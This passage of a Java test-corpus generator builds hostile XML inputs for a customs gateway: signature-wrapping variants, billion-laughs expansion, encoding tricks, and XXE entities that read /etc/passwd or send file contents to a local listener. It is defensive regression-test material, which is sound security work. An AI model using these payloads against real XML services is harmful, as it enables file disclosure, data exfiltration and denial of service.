package vn.customs.swg.corpus;

import static java.nio.charset.StandardCharsets.UTF_8;
import static vn.customs.swg.testsupport.TestMessages.DS;
import static vn.customs.swg.testsupport.TestMessages.NS;
import static vn.customs.swg.testsupport.TestMessages.first;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.Charset;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.KeyPair;
import java.security.KeyPairGenerator;
import java.security.MessageDigest;
import java.security.PrivateKey;
import java.security.cert.X509Certificate;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.function.Consumer;
import javax.crypto.spec.SecretKeySpec;
import org.apache.xml.security.Init;
import org.apache.xml.security.keys.content.X509Data;
import org.apache.xml.security.signature.XMLSignature;
import org.apache.xml.security.transforms.Transforms;
import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.w3c.dom.Node;
import vn.customs.swg.XmlOutput;
import vn.customs.swg.signature.SenderSigner;
import vn.customs.swg.signature.SignatureProfile;
import vn.customs.swg.testsupport.DevPartner;
import vn.customs.swg.testsupport.TestMessages;
import vn.customs.swg.testsupport.TestPki;

/**
 * Writes the hostile-input corpus (src/test/resources/corpus) and its manifest. Run by hand, from
 * the repository root, only when a case is added or the dev PKI is regenerated (the signatures
 * use the committed dev partner keys); the commands are in the corpus's README.md.
 *
 * Every case is built from the TAX_PAYMENT_NOTICE example sent by vcb at {@link #SENT_AT}, the
 * instant {@link HostileCorpusIT} fixes the gateway's clock at, so clock skew never masks the code
 * a case is about. The expected code of every case is decided here, from the contract
 * (ENVELOPE.md section 6) and the documented order of the inbound route's checks; a refusal the
 * gateway gets wrong is listed in {@link #FINDINGS}, never matched by changing the expectation.
 */
public final class CorpusWriter {

  /** The gateway's clock in a corpus run; after the dev PKI's notBefore and CRL thisUpdate. */
  public static final Instant AT = Instant.parse("2026-11-22T10:00:00Z");
  static final String SENT_AT = "2026-11-22T17:00:00+07:00";
  /** The local listener every external URI of the corpus points at; a run asserts it is never called. */
  public static final int LISTENER_PORT = 29871;
  static final String LISTENER = "http://127.0.0.1:" + LISTENER_PORT;

  private static final DevPartner VCB = DevPartner.load("vcb");
  private static final DevPartner BIDV = DevPartner.load("bidv");
  private static final DevPartner MOIT = DevPartner.load("moit");
  private static final DevPartner ASW = DevPartner.load("asw-id");
  private static final DevPartner VCB_REVOKED = DevPartner.load("vcb-revoked");

  private static final String XSLT = "http://www.w3.org/TR/1999/REC-xslt-19991116";
  private static final String XPATH = "http://www.w3.org/TR/1999/REC-xpath-19991116";
  private static final String XPATH2 = "http://www.w3.org/2002/06/xmldsig-filter2";
  private static final String BASE64 = "http://www.w3.org/2000/09/xmldsig#base64";
  private static final String ENVELOPED = "http://www.w3.org/2000/09/xmldsig#enveloped-signature";
  private static final String EXC_C14N_COMMENTS = "http://www.w3.org/2001/10/xml-exc-c14n#WithComments";
  private static final String MD5 = "http://www.w3.org/2001/04/xmldsig-more#md5";
  private static final String RSA_MD5 = "http://www.w3.org/2001/04/xmldsig-more#rsa-md5";
  private static final String HMAC_SHA1 = "http://www.w3.org/2000/09/xmldsig#hmac-sha1";
  private static final String HMAC_SHA256 = "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256";
  private static final String DSA_SHA1 = "http://www.w3.org/2000/09/xmldsig#dsa-sha1";
  private static final String DSA_SHA256 = "http://www.w3.org/2009/xmldsig11#dsa-sha256";
  private static final String ECDSA_SHA1 = "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha1";

  /**
   * Cases the gateway answers wrongly today (issue 6 security findings): written, but commented
   * out of the manifest with what happens instead, so the build stays green and the fix only has
   * to delete the entry here and regenerate. The expectation is never weakened to match.
   */
  static final Map<String, String> FINDINGS = Map.of();

  private final List<CorpusCase> cases = new ArrayList<>();
  private final Path root;

  CorpusWriter(Path root) {
    this.root = root;
  }

  public static void main(String[] args) throws Exception {
    Init.init();
    Path root = args.length > 0 ? Path.of(args[0]) : CorpusCase.ROOT;
    CorpusWriter writer = new CorpusWriter(root);
    writer.writeAll();
    writer.writeManifest();
    System.out.println(writer.cases.size() + " cases written to " + root);
  }

  void writeAll() throws Exception {
    replay();
    wrapping();
    xxe();
    entityExpansion();
    nesting();
    attributes();
    base64();
    encoding();
    signedContent();
    transforms();
    algorithms();
    keyConfusion();
    spoofing();
    gatewayOnly();
  }

  // ---------------------------------------------------------------------------------------------
  // replay: the original must be accepted inside the run, so it comes first in the manifest

  private void replay() {
    Document original = notice("replay/original");
    TestMessages.sign(original, VCB);
    byte[] originalBytes = XmlOutput.toBytes(original);
    writeBytes("replay/original.xml", originalBytes, "ACCEPTED", 202,
        "set-up: a good message the replays below repeat; the only case that reaches a queue");
    writeBytes("replay/identical-resend.xml", originalBytes, "DUPLICATE", 202,
        "the same bytes again: the original receipt as DUPLICATE, nothing forwarded twice");

    Document other = notice("replay/original");
    TestMessages.bodyDocument(other).getElementsByTagNameNS("*", "remarks").item(0).setTextContent("replayed id");
    TestMessages.sign(other, VCB);
    signed("replay/same-id-other-content.xml", other, "SWG-DUP-001", 409,
        "same messageId as the accepted original, validly signed, different content");

    sentAt("replay/old-sent-at.xml", "2026-11-21T17:00:00+07:00", "a validly signed message sent a day earlier");
    sentAt("replay/sent-at-16-minutes-old.xml", "2026-11-22T16:44:00+07:00", "sentAt one minute beyond the 15-minute skew");
    sentAt("replay/sent-at-in-future.xml", "2026-11-22T18:00:00+07:00", "sentAt an hour in the future");
    sentAt("replay/sent-at-last-year.xml", "2025-11-22T17:00:00+07:00", "a message captured a year ago");
  }

  /** A validly signed message whose sentAt lies outside the skew around {@link #AT}. */
  private void sentAt(String file, String sentAt, String description) {
    Document document = notice(file);
    TestMessages.set(document, "sentAt", sentAt);
    signedBy(file, document, VCB, "SWG-ENV-006", 400, description);
  }

  // ---------------------------------------------------------------------------------------------
  // wrapping (Somorovsky et al. 2012): the signed part survives somewhere, the processed one is the attacker's

  private void wrapping() throws Exception {
    wrap("wrapping/body-into-header.xml", "SWG-ENV-002", 400,
        "signed Body moved to the end of Header, attacker Body in its place (the schema closes Header)", d -> {
          Element signed = first(d, "Body");
          d.getDocumentElement().replaceChild(attackerBody(d, "attacker-body"), signed);
          first(d, "Header").appendChild(signed);
        });
    wrap("wrapping/body-into-object.xml", "SWG-SEC-003", 403,
        "signed Body moved into a ds:Object of the signature, attacker Body with its own Id", d -> {
          Element signed = first(d, "Body");
          d.getDocumentElement().replaceChild(attackerBody(d, "attacker-body"), signed);
          object(d).appendChild(signed);
        });
    wrap("wrapping/body-into-object-same-id.xml", "SWG-SEC-003", 403,
        "signed Body moved into ds:Object, attacker Body carries the same Id \"body\"", d -> {
          Element signed = first(d, "Body");
          d.getDocumentElement().replaceChild(attackerBody(d, "body"), signed);
          object(d).appendChild(signed);
        });
    wrap("wrapping/body-into-keyinfo.xml", "SWG-ENV-002", 400,
        "signed Body hidden inside ds:KeyInfo, attacker Body without Id", d -> {
          Element signed = first(d, "Body");
          d.getDocumentElement().replaceChild(attackerBody(d, null), signed);
          d.getElementsByTagNameNS(DS, "KeyInfo").item(0).appendChild(signed);
        });
    wrap("wrapping/body-inside-attacker-document.xml", "SWG-SEC-003", 403,
        "signed Body nested inside the attacker's business document (skipped by the envelope schema)", d -> {
          Element signed = first(d, "Body");
          Element attacker = attackerBody(d, "attacker-body");
          d.getDocumentElement().replaceChild(attacker, signed);
          firstElementChild(attacker).appendChild(signed);
        });
    wrap("wrapping/second-envelope.xml", "SWG-SEC-003", 403,
        "the whole signed envelope nested in the Body of an attacker envelope that reuses its signature", d -> {
          Element signedEnvelope = d.getDocumentElement();
          Element outer = (Element) signedEnvelope.cloneNode(true);
          Element outerBody = (Element) outer.getElementsByTagNameNS(NS, "Body").item(0);
          outerBody.setAttributeNS(null, "Id", "attacker-body");
          ((Element) outer.getElementsByTagNameNS(NS, "Header").item(0)).setAttributeNS(null, "Id", "attacker-header");
          Element amount = (Element) outerBody.getElementsByTagNameNS("*", "totalAmount").item(0);
          amount.setTextContent("1");
          d.replaceChild(outer, signedEnvelope);
          Element holder = d.createElementNS("urn:attacker", "a:Wrapper");
          holder.appendChild(signedEnvelope);
          while (outerBody.getFirstChild() != null) {
            outerBody.removeChild(outerBody.getFirstChild());
          }
          outerBody.appendChild(holder);
        });
    wrap("wrapping/sibling-body-after.xml", "SWG-ENV-002", 400,
        "an attacker Body added after the signed one", d ->
            d.getDocumentElement().insertBefore(attackerBody(d, "attacker-body"), first(d, "Body").getNextSibling()));
    wrap("wrapping/sibling-body-before.xml", "SWG-ENV-002", 400,
        "an attacker Body added before the signed one", d ->
            d.getDocumentElement().insertBefore(attackerBody(d, "attacker-body"), first(d, "Body")));
    wrap("wrapping/duplicate-id-in-body.xml", "SWG-SEC-003", 403,
        "the business document inside Body also carries Id=\"body\"", d ->
            TestMessages.bodyDocument(d).setAttributeNS(null, "Id", "body"));
    wrap("wrapping/duplicate-id-in-header.xml", "SWG-ENV-002", 400,
        "an element inside Header carries the Body's Id", d ->
            first(d, "Reference").setAttributeNS(null, "Id", "body"));
    wrap("wrapping/id-moved-to-attacker-body.xml", "SWG-SEC-003", 403,
        "the Id moves to the attacker Body; the signed Body, renamed Id, hides in ds:Object", d -> {
          Element signed = first(d, "Body");
          d.getDocumentElement().replaceChild(attackerBody(d, "body"), signed);
          signed.setAttributeNS(null, "Id", "original-body");
          object(d).appendChild(signed);
        });
    wrap("wrapping/id-moved-to-business-document.xml", "SWG-SEC-003", 403,
        "Body's Id moved onto the business document inside it", d -> {
          Element body = first(d, "Body");
          body.setAttributeNS(null, "Id", "moved");
          TestMessages.bodyDocument(d).setAttributeNS(null, "Id", "body");
        });
    wrap("wrapping/id-attribute-prefixed.xml", "SWG-ENV-002", 400,
        "Body's Id replaced by a namespaced a:Id (an Id a lax resolver might still honour)", d -> {
          Element body = first(d, "Body");
          body.removeAttributeNS(null, "Id");
          body.setAttributeNS("urn:attacker", "a:Id", "body");
        });
    wrap("wrapping/xml-id-attribute.xml", "SWG-ENV-002", 400,
        "the attacker Body carries xml:id=\"body\", the signed one hides in ds:Object", d -> {
          Element signed = first(d, "Body");
          Element attacker = attackerBody(d, "attacker-body");
          attacker.setAttributeNS("http://www.w3.org/XML/1998/namespace", "xml:id", "body");
          d.getDocumentElement().replaceChild(attacker, signed);
          object(d).appendChild(signed);
        });
    // Namespace-prefix tricks: same names to a reader that compares prefixes, different to one that
    // compares namespaces, or the reverse.
    wrapText("wrapping/prefix-rebound-on-body.xml", "SWG-ENV-002", 400,
        "attacker Body with the swg prefix rebound to a foreign namespace, signed Body after it",
        xml -> xml.replaceFirst("<swg:Body Id=\"body\">",
            "<swg:Body xmlns:swg=\"urn:attacker\" Id=\"body\"><tpn:TaxPaymentNotice xmlns:tpn=\"urn:x\"/></swg:Body><swg:Body Id=\"body\">"));
    wrapText("wrapping/default-namespace-body.xml", "SWG-SEC-002", 403,
        "the signed Body re-serialised with a default namespace instead of the swg prefix (same infoset, other canonical bytes)",
        xml -> xml.replaceFirst("<swg:Body Id=\"body\">", "<Body xmlns=\"urn:vn:customs:swg:envelope:1\" Id=\"body\">")
            .replaceFirst("</swg:Body>", "</Body>"));
    wrapText("wrapping/ds-prefix-rebound.xml", "SWG-ENV-002", 400,
        "a second ds:Signature in a look-alike namespace under the ds prefix inside SenderSignature",
        xml -> xml.replaceFirst("</ds:Signature>",
            "</ds:Signature><ds:Signature xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#x\" Id=\"other\"/>"));
    wrapReferences("wrapping/reference-to-signature.xml", "SWG-SEC-003", 403,
        "a third reference to the signature element itself", "#header", "#body", "#sender-signature");
    wrapReferences("wrapping/reference-to-whole-document.xml", "SWG-SEC-003", 403,
        "a single reference URI=\"\" over the whole document instead of Header and Body", "");
    wrapReferences("wrapping/body-only-reference.xml", "SWG-SEC-003", 403,
        "a genuine signature over Body alone: the header (who, what, when) is unsigned", "#body");
    wrapReferences("wrapping/two-references-to-body.xml", "SWG-SEC-003", 403,
        "Body referenced twice, Header not at all", "#body", "#body");
    wrapReferences("wrapping/xpointer-reference.xml", "SWG-SEC-003", 403,
        "references in the #xpointer(id('...')) form instead of plain #id", "#xpointer(id('header'))", "#xpointer(id('body'))");
  }

  // ---------------------------------------------------------------------------------------------
  // XXE (Spath et al. 2016): the hardened parser refuses any DTD before it could resolve anything

  private void xxe() throws Exception {
    doctype("xxe/external-file-entity.xml", "<!DOCTYPE swg:Envelope [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>", "&x;",
        "external general entity reading /etc/passwd into the remarks");
    doctype("xxe/external-http-entity.xml", "<!DOCTYPE swg:Envelope [<!ENTITY x SYSTEM \"" + LISTENER + "/xxe\">]>", "&x;",
        "external general entity fetched over http from the local listener");
    doctype("xxe/parameter-entity-http.xml", "<!DOCTYPE swg:Envelope [<!ENTITY % remote SYSTEM \"" + LISTENER + "/evil.dtd\"> %remote;]>", null,
        "external parameter entity: the classic out-of-band exfiltration DTD");
    doctype("xxe/parameter-entity-file-exfiltration.xml", "<!DOCTYPE swg:Envelope [<!ENTITY % file SYSTEM \"file:///etc/hostname\"><!ENTITY % eval \"<!ENTITY &#x25; send SYSTEM '"
            + LISTENER + "/?d=%file;'>\">%eval;%send;]>", null,
        "parameter entities that read a file and send it to the listener");
    doctype("xxe/external-dtd-system.xml", "<!DOCTYPE swg:Envelope SYSTEM \"" + LISTENER + "/envelope.dtd\">", null,
        "an external DTD subset by SYSTEM identifier");
    doctype("xxe/external-dtd-public.xml", "<!DOCTYPE swg:Envelope PUBLIC \"-//A//B//EN\" \"" + LISTENER + "/public.dtd\">", null,
        "an external DTD subset by PUBLIC identifier");
    doctype("xxe/internal-entity.xml", "<!DOCTYPE swg:Envelope [<!ENTITY x \"harmless\">]>", "&x;",
        "an internal entity: any DTD at all is refused");
    doctype("xxe/empty-doctype.xml", "<!DOCTYPE swg:Envelope>", null, "a DOCTYPE with nothing in it");
    edited("xxe/entity-in-attribute.xml", "<swg:Envelope ",
            "<!DOCTYPE swg:Envelope [<!ENTITY x \"file\">]>\n<swg:Envelope data=\"&x;\" ", "SWG-ENV-001", 400,
        "an entity referenced in an attribute value");
    writeBytes("xxe/utf16-doctype.xml", ("\uFEFF" + signedNoticeXml("xxe/utf16-doctype.xml").replace("encoding=\"UTF-8\"", "encoding=\"UTF-16\"")
            .replaceFirst("<swg:Envelope ", "<!DOCTYPE swg:Envelope [<!ENTITY x SYSTEM \"" + LISTENER + "/utf16\">]><swg:Envelope "))
            .getBytes(Charset.forName("UTF-16BE")), "SWG-ENV-001", 400,
        "an external entity in a UTF-16 document, past a byte-level \"<!DOCTYPE\" filter");

    Document include = notice("xxe/xinclude-http");
    Element body = first(include, "Body");
    body.removeChild(TestMessages.bodyDocument(include));
    Element xi = include.createElementNS("http://www.w3.org/2001/XInclude", "xi:include");
    xi.setAttributeNS(null, "href", LISTENER + "/include.xml");
    body.appendChild(xi);
    signedBy("xxe/xinclude-http.xml", include, VCB, "SWG-ENV-004", 400,
        "an XInclude of the listener as the whole business document, validly signed");
    Document includeFile = notice("xxe/xinclude-file");
    Element xiFile = includeFile.createElementNS("http://www.w3.org/2001/XInclude", "xi:include");
    xiFile.setAttributeNS(null, "href", "file:///etc/passwd");
    xiFile.setAttributeNS(null, "parse", "text");
    TestMessages.bodyDocument(includeFile).getElementsByTagNameNS("*", "remarks").item(0).appendChild(xiFile);
    signedBy("xxe/xinclude-file.xml", includeFile, VCB, "SWG-ENV-004", 400,
        "an XInclude of /etc/passwd as text inside the remarks, validly signed");
    Document hint = notice("xxe/schema-location-hint");
    TestMessages.bodyDocument(hint).setAttributeNS("http://www.w3.org/2001/XMLSchema-instance", "xsi:schemaLocation",
        "urn:vn:customs:swg:tax-payment-notice:1 " + LISTENER + "/evil.xsd");
    signedBy("xxe/schema-location-hint.xml", hint, VCB, "ACCEPTED", 202,
        "xsi:schemaLocation pointing at the listener, validly signed: legal XML Schema, so ACCEPTED, but never fetched");
  }

  // ---------------------------------------------------------------------------------------------

  private void entityExpansion() throws Exception {
    String laughs = "<!DOCTYPE swg:Envelope [" + entityChain("", "lol", "&") + "]>";
    doctype("entity-expansion/billion-laughs.xml", laughs, "&lol10;",
        "ten levels of ten entity references: 10^10 expansions");
    String big = "A".repeat(50_000);
    doctype("entity-expansion/quadratic-blowup.xml", "<!DOCTYPE swg:Envelope [<!ENTITY a \"" + big + "\">]>",
        "&a;".repeat(20_000), "one 50 kB entity referenced 20,000 times: 1 GB from 130 kB");
    String parameter = "<!DOCTYPE swg:Envelope [" + entityChain("% ", "p", "&#37;") + "<!ENTITY x \"%p10;\">]>";
    doctype("entity-expansion/parameter-entity-laughs.xml", parameter, "&x;",
        "billion laughs through parameter entities inside the internal subset");
    edited("entity-expansion/laughs-in-attribute.xml", "<swg:Envelope ",
        laughs + "\n<swg:Envelope a=\"&lol10;\" ", "SWG-ENV-001", 400, "billion laughs referenced from an attribute value");
    doctype("entity-expansion/recursive-entity.xml", "<!DOCTYPE swg:Envelope [<!ENTITY a \"&b;\"><!ENTITY b \"&a;\">]>",
        "&a;", "two entities referencing each other");
  }

  // ---------------------------------------------------------------------------------------------

  private void nesting() throws Exception {
    nested("nesting/depth-100-in-body.xml", 100, false, "SWG-ENV-001", 400,
        "100 nested elements in the business document, past the 64-level limit, validly signed");
    nested("nesting/depth-10000-in-body.xml", 10_000, false, "SWG-ENV-001", 400, "10,000 nested elements");
    nested("nesting/depth-20000-unclosed.xml", 20_000, true, "SWG-ENV-001", 400,
        "20,000 opened elements never closed: the parser must stop at the limit, not at the end");
    StringBuilder ns = new StringBuilder();
    for (int i = 0; i < 5_000; i++) {
      ns.append("<n:e xmlns:n=\"urn:n").append(i).append("\">");
    }
    edited("nesting/depth-5000-with-namespaces.xml", "<tpn:remarks>", "<tpn:remarks>" + ns,
        "SWG-ENV-001", 400, "5,000 levels each declaring a new namespace");
    StringBuilder header = new StringBuilder();
    for (int i = 0; i < 1000; i++) {
      header.append("<x:h xmlns:x=\"urn:x\">");
    }
    for (int i = 0; i < 1000; i++) {
      header.append("</x:h>");
    }
    edited("nesting/depth-1000-in-header.xml", "</swg:Header>", header + "</swg:Header>",
        "SWG-ENV-001", 400, "1,000 nested foreign elements at the end of Header");
  }

  // ---------------------------------------------------------------------------------------------

  private void attributes() throws Exception {
    StringBuilder many = new StringBuilder();
    for (int i = 0; i < 20_000; i++) {
      many.append(" a").append(i).append("=\"x\"");
    }
    edited("attributes/20000-attributes-on-body-document.xml",
        "<tpn:TaxPaymentNotice ", "<tpn:TaxPaymentNotice" + many + " ",
        "SWG-ENV-001", 400, "20,000 attributes on one element");
    edited("attributes/20000-attributes-on-envelope.xml", "<swg:Envelope ", "<swg:Envelope" + many + " ",
        "SWG-ENV-001", 400, "20,000 attributes on the root, read before anything else");
    StringBuilder namespaces = new StringBuilder();
    for (int i = 0; i < 10_000; i++) {
      namespaces.append(" xmlns:p").append(i).append("=\"urn:p").append(i).append('"');
    }
    edited("attributes/10000-namespace-declarations.xml",
        "<tpn:TaxPaymentNotice ", "<tpn:TaxPaymentNotice" + namespaces + " ",
        "SWG-ENV-001", 400, "10,000 namespace declarations on one element (canonicalisation cost)");
    edited("attributes/300kb-attribute-value.xml",
        "<tpn:TaxPaymentNotice ", "<tpn:TaxPaymentNotice note=\"" + "v".repeat(300_000) + "\" ",
        "SWG-SEC-002", 403,
        "one attribute value of 300,000 characters added after signing: within the size cap, so the digest refuses it");
    edited("attributes/100kb-attribute-name.xml",
        "<tpn:TaxPaymentNotice ", "<tpn:TaxPaymentNotice " + "n".repeat(100_000) + "=\"v\" ",
        "SWG-ENV-001", 400, "an attribute name of 100,000 characters");
    edited("attributes/duplicate-attribute.xml", "<swg:Body Id=\"body\"", "<swg:Body Id=\"body\" Id=\"other\"",
        "SWG-ENV-001", 400, "the same attribute twice on Body (not well-formed)");
    Document version = notice("attributes/second-version-attribute");
    version.getDocumentElement().setAttributeNS("urn:attacker", "a:version", "0.9");
    signedBy("attributes/foreign-version-attribute.xml", version, VCB, "SWG-ENV-002", 400,
        "a foreign-namespace version attribute next to the real one on Envelope");
  }

  // ---------------------------------------------------------------------------------------------

  private void base64() throws Exception {
    String huge = "QUFB".repeat(75_000);
    edited("base64/300kb-signature-value.xml",
        "<ds:SignatureValue>[^<]*</ds:SignatureValue>", "<ds:SignatureValue>" + huge + "</ds:SignatureValue>",
        "SWG-SEC-002", 403, "a 300 kB SignatureValue");
    edited("base64/300kb-certificate.xml",
        "<ds:X509Certificate>[^<]*</ds:X509Certificate>", "<ds:X509Certificate>" + huge + "</ds:X509Certificate>",
        "SWG-SEC-009", 403, "a 300 kB X509Certificate that decodes to no certificate");
    edited("base64/garbage-certificate.xml",
        "<ds:X509Certificate>[^<]*</ds:X509Certificate>", "<ds:X509Certificate>QUFBQUFBQUE=</ds:X509Certificate>",
        "SWG-SEC-009", 403, "a short X509Certificate that decodes to no certificate");
    edited("base64/300kb-digest-value.xml",
        "<ds:DigestValue>[^<]*</ds:DigestValue>", "<ds:DigestValue>" + huge + "</ds:DigestValue>",
        "SWG-SEC-002", 403, "a 300 kB DigestValue");
    edited("base64/whitespace-per-character-signature-value.xml",
        "<ds:SignatureValue>[^<]*</ds:SignatureValue>",
            "<ds:SignatureValue>" + "A\n".repeat(100_000) + "</ds:SignatureValue>",
        "SWG-SEC-002", 403, "a SignatureValue of 100,000 characters each followed by a newline");
    edited("base64/invalid-base64-signature-value.xml",
        "<ds:SignatureValue>[^<]*</ds:SignatureValue>", "<ds:SignatureValue>!!!not*base64===</ds:SignatureValue>",
        "SWG-SEC-002", 403, "a SignatureValue that is not base64 at all");
    Document body = notice("base64/300kb-base64-in-body");
    Element attachment = body.createElementNS("urn:attacker", "a:attachment");
    attachment.setTextContent(huge);
    TestMessages.bodyDocument(body).appendChild(attachment);
    signedBy("base64/300kb-base64-in-body.xml", body, VCB, "SWG-ENV-004", 400,
        "a 300 kB base64 element appended to the business document, validly signed");
  }

  // ---------------------------------------------------------------------------------------------

  private void encoding() throws Exception {
    writeBytes("encoding/utf16le-declared-utf8.xml", signedNoticeXml("encoding/utf16le-declared-utf8.xml").getBytes(Charset.forName("UTF-16LE")), "SWG-ENV-001", 400,
        "UTF-16LE bytes without a BOM, declaring UTF-8");
    writeBytes("encoding/utf16-with-bom.xml", ("\uFEFF" + signedNoticeXml("encoding/utf16-with-bom.xml").replace("encoding=\"UTF-8\"", "encoding=\"UTF-16\""))
        .getBytes(Charset.forName("UTF-16BE")), "SWG-ENV-001", 400, "a well-formed UTF-16 document with its BOM: not UTF-8");
    writeBytes("encoding/utf8-bom-declared-utf16.xml", concat(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF},
        signedNoticeXml("encoding/utf8-bom-declared-utf16.xml").replace("encoding=\"UTF-8\"", "encoding=\"UTF-16\"").getBytes(UTF_8)), "SWG-ENV-001", 400,
        "a UTF-8 BOM on a document declaring UTF-16");
    writeBytes("encoding/utf16-bom-declared-utf8.xml", concat(new byte[] {(byte) 0xFE, (byte) 0xFF}, signedNoticeXml("encoding/utf16-bom-declared-utf8.xml").getBytes(UTF_8)),
        "SWG-ENV-001", 400, "a UTF-16 BOM in front of UTF-8 bytes");
    writeBytes("encoding/double-utf8-bom.xml", concat(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF, (byte) 0xEF,
        (byte) 0xBB, (byte) 0xBF}, signedNoticeXml("encoding/double-utf8-bom.xml").getBytes(UTF_8)), "SWG-ENV-001", 400, "two UTF-8 BOMs");
    writeBytes("encoding/utf32-bom.xml", concat(new byte[] {0, 0, (byte) 0xFE, (byte) 0xFF},
        signedNoticeXml("encoding/utf32-bom.xml").replace("encoding=\"UTF-8\"", "encoding=\"UTF-32\"").getBytes(Charset.forName("UTF-32BE"))), "SWG-ENV-001", 400,
        "a UTF-32 document with its BOM");
    writeBytes("encoding/iso-8859-1-declared.xml", signedNoticeXml("encoding/iso-8859-1-declared.xml").replace("encoding=\"UTF-8\"", "encoding=\"ISO-8859-1\"")
        .getBytes(Charset.forName("ISO-8859-1")), "SWG-ENV-001", 400,
        "the signed document re-encoded as ISO-8859-1 (Vietnamese letters lost)");
    writeBytes("encoding/utf7-declared.xml", signedNoticeXml("encoding/utf7-declared.xml").replace("encoding=\"UTF-8\"", "encoding=\"UTF-7\"")
        .replaceFirst("<tpn:remarks>", "<tpn:remarks>+ADw-script+AD4-").getBytes(UTF_8), "SWG-ENV-001", 400,
        "declares UTF-7, in which +ADw- is '<'");
    writeBytes("encoding/ebcdic-declared.xml", signedNoticeXml("encoding/ebcdic-declared.xml").replace("encoding=\"UTF-8\"", "encoding=\"IBM037\"")
        .replaceAll("[^\\x00-\\x7F]", "?").getBytes(Charset.forName("IBM037")), "SWG-ENV-001", 400,
        "the document in EBCDIC (IBM037), declared as such");
    writeBytes("encoding/overlong-less-than.xml", replaceFirst(signedNoticeXml("encoding/overlong-less-than.xml").getBytes(UTF_8), "<tpn:remarks>".getBytes(UTF_8),
        concat("<tpn:remarks>".getBytes(UTF_8), new byte[] {(byte) 0xC0, (byte) 0xBC})), "SWG-ENV-001", 400,
        "an overlong UTF-8 encoding of '<' (C0 BC) in the remarks");
    writeBytes("encoding/invalid-utf8-byte.xml", replaceFirst(signedNoticeXml("encoding/invalid-utf8-byte.xml").getBytes(UTF_8), "<tpn:remarks>".getBytes(UTF_8),
        concat("<tpn:remarks>".getBytes(UTF_8), new byte[] {(byte) 0xFF, (byte) 0xFE})), "SWG-ENV-001", 400,
        "bytes FF FE inside UTF-8 text");
    writeBytes("encoding/utf8-encoded-surrogate.xml", replaceFirst(signedNoticeXml("encoding/utf8-encoded-surrogate.xml").getBytes(UTF_8), "<tpn:remarks>".getBytes(UTF_8),
        concat("<tpn:remarks>".getBytes(UTF_8), new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80})), "SWG-ENV-001", 400,
        "a UTF-8-encoded lone surrogate (CESU-8 style)");
    writeBytes("encoding/nul-byte.xml", replaceFirst(signedNoticeXml("encoding/nul-byte.xml").getBytes(UTF_8), "<tpn:remarks>".getBytes(UTF_8),
        concat("<tpn:remarks>".getBytes(UTF_8), new byte[] {0})), "SWG-ENV-001", 400, "a NUL byte in text content");
    writeBytes("encoding/control-character-reference.xml", signedNoticeXml("encoding/control-character-reference.xml").replaceFirst("<tpn:remarks>", "<tpn:remarks>&#x1;")
        .getBytes(UTF_8), "SWG-ENV-001", 400, "a character reference to U+0001, illegal in XML 1.0");
    writeBytes("encoding/xml-1.1-declared.xml", signedNoticeXml("encoding/xml-1.1-declared.xml").replace("version=\"1.0\" encoding", "version=\"1.1\" encoding")
        .replaceFirst("<tpn:remarks>", "<tpn:remarks>&#x1;").getBytes(UTF_8), "SWG-ENV-001", 400,
        "XML 1.1, which allows the control character reference");
  }

  // ---------------------------------------------------------------------------------------------
  // comments and processing instructions inside signed content

  private void signedContent() throws Exception {
    edited("signed-content/pi-inside-body-after-signing.xml",
        "<tpn:totalAmount>", "<?evil data?><tpn:totalAmount>", "SWG-ENV-001", 400,
        "a processing instruction added inside the signed Body after signing (canonical form keeps PIs)");
    edited("signed-content/pi-inside-signed-info.xml",
        "<ds:SignatureMethod", "<?evil data?><ds:SignatureMethod", "SWG-ENV-001", 400,
        "a processing instruction added inside SignedInfo after signing");
    edited("signed-content/stylesheet-pi-before-root.xml",
        "\\?>", "?>\n<?xml-stylesheet type=\"text/xsl\" href=\"" + LISTENER + "/style.xsl\"?>",
        "SWG-ENV-001", 400, "an xml-stylesheet PI before the root pointing at the listener");
    Document piSigned = notice("signed-content/pi-signed-in-body");
    Element remarks = (Element) TestMessages.bodyDocument(piSigned).getElementsByTagNameNS("*", "remarks").item(0);
    remarks.getParentNode().insertBefore(piSigned.createProcessingInstruction("backend-instruction", "route=elsewhere"), remarks);
    signedBy("signed-content/pi-signed-in-body.xml", piSigned, VCB, "SWG-ENV-001", 400,
        "a processing instruction inside the business document, signed by the partner");
    edited("signed-content/comment-splits-amount.xml",
        "<tpn:totalAmount>370", "<tpn:totalAmount>370<!---->", "SWG-ENV-001", 400,
        "a comment splitting the signed totalAmount after signing: the signature still verifies (C14N drops comments) but a reader of the first text node sees 370");
    edited("signed-content/comment-splits-identity.xml",
        "<swg:identity>01203001", "<swg:identity>012<!-- -->03001", "SWG-ENV-001", 400,
        "a comment splitting From/identity after signing (the SAML comment truncation attack)");
    edited("signed-content/comment-inside-signed-info.xml",
        "<ds:SignatureMethod", "<!-- x --><ds:SignatureMethod", "SWG-ENV-001", 400,
        "a comment added inside SignedInfo after signing");
  }

  // ---------------------------------------------------------------------------------------------
  // transform abuse (CVE-2021-40690 and friends): the profile allows exclusive C14N only, and a
  // transform must be refused before it runs, so these are written into an already signed
  // SignedInfo: the SignatureValue no longer matches and only the profile's refusal is right.

  private void transforms() throws Exception {
    transform("transforms/xslt-document-fetch.xml", "SWG-SEC-004", 403,
        "an XSLT transform whose stylesheet calls document() on the listener",
        "<ds:Transform Algorithm=\"" + XSLT + "\"><xsl:stylesheet xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" version=\"1.0\">"
            + "<xsl:template match=\"/\"><xsl:copy-of select=\"document('" + LISTENER + "/xslt')\"/></xsl:template></xsl:stylesheet></ds:Transform>");
    transform("transforms/xslt-infinite-loop.xml", "SWG-SEC-004", 403,
        "an XSLT transform that recurses forever",
        "<ds:Transform Algorithm=\"" + XSLT + "\"><xsl:stylesheet xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" version=\"1.0\">"
            + "<xsl:template name=\"loop\"><xsl:call-template name=\"loop\"/></xsl:template>"
